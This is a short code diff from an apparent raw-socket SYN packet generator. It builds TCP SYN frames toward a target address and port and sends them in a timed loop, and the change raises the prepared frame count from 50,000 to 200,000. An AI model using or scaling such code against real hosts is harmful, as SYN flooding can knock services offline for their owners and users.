@@ -45,7 +45,7 @@ def main() -> None:
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
         raw.bind((device, 0))
         ethernet = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
-        frames = [syn(ethernet, socket.inet_aton(address), int(port)) for _ in range(50_000)]
+        frames = [syn(ethernet, socket.inet_aton(address), int(port)) for _ in range(200_000)]
         begun, sent, announced = time.monotonic(), 0, False
         end = begun + float(rest[0] if rest else "inf")
         while not stopped and (now := time.monotonic()) < end:
